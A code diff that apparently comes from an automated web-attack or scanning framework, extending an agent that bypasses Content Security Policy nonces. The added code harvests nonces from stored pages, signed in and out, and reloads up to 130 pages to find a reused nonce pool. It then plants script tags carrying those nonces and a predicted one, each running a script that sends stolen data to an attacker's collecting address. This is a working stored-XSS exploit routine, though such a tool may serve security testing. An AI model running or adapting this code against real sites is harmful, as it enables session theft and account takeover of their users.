@@ -1,12 +1,20 @@
 // xss-nonce: leaves a script with the nonce of an earlier answer, since a nonce is for one, and
-// with the next one where it can be foreseen (CSP3, "Nonce Reuse"; ASVS 5.0, 3.4.3).
+// with the next one where it can be foreseen (CSP3, "Nonce Reuse"; ASVS 5.0, 3.4.3). Where an
+// answer came without chance drawn for it, its nonce may be one of a stock or belong to all who are
+// not signed in: there he looks at many answers, and as nobody, too.
+#include <algorithm>
+
 #include "core/attack/every_agent.h"
+#include "core/attack/lure.h"
 #include "core/attack/page_script.h"
+#include "core/attack/session.h"
 #include "core/attack/stored_text.h"
 #include "core/attack/tags.h"
 
 namespace parapet::attack {
 namespace {
+
+constexpr int kMostPages = 130;  // two rounds of a stock of 64
 
 class XssNonce final : public Agent {
     void run(Target& target) override {
@@ -15,17 +23,39 @@ class XssNonce final : public Agent {
         std::string const address = collecting_address(*evil);
         StoredText text(target);
         std::vector<std::string> nonces = seen_in(text.pages());
+        bool const draws = nonces.empty() || target.victim()->draws_for_each_page();
+        if (!draws) nonces = seen_often(target, text, nonces);
         target.note(std::to_string(nonces.size()) + " nonces are seen in answers.");
         if (nonces.empty()) return;
         // Of those that were seen the first and the last, and the one that comes next.
-        if (nonces.size() > 2) nonces.erase(nonces.begin() + 1, nonces.end() - 1);
+        if (draws && nonces.size() > 2) nonces.erase(nonces.begin() + 1, nonces.end() - 1);
         nonces.push_back(target.victim()->foreseen_nonce());
         std::string const script = taking_script(target, address);
         std::string scripts;
         for (std::string const& nonce : nonces)
             scripts += "<script nonce=" + in_quotes(nonce) + ">" + script + "</script>";
         text.leave(scripts);
+        if (!draws && !target.option(option::kFirst).empty())
+            victim_does(target, routines_option(target, option::kFirst));
         victim_reads_and_loot_is_used(target);
+    }
+
+    // Until a stock has come round. All differ: it was no stock, and only the last ones are kept.
+    static std::vector<std::string> seen_often(Target& target, StoredText const& text,
+                                               std::vector<std::string> nonces) {
+        target.forget_cookies();
+        std::vector<std::string> as_nobody = seen_in(text.pages());
+        sign_in(target, target.surface().attacker);
+        bool comes_round = false;
+        for (int i = 0; i < kMostPages; ++i)
+            for (std::string& each : seen_in(text.pages())) {
+                bool const is_known = std::find(nonces.begin(), nonces.end(), each) != nonces.end();
+                comes_round = comes_round || is_known;
+                if (!is_known) nonces.push_back(std::move(each));
+            }
+        if (!comes_round) nonces = {nonces.front(), nonces.back()};
+        nonces.insert(nonces.end(), as_nobody.begin(), as_nobody.end());
+        return nonces;
     }
 
     static std::vector<std::string> seen_in(std::vector<std::string> const& pages) {
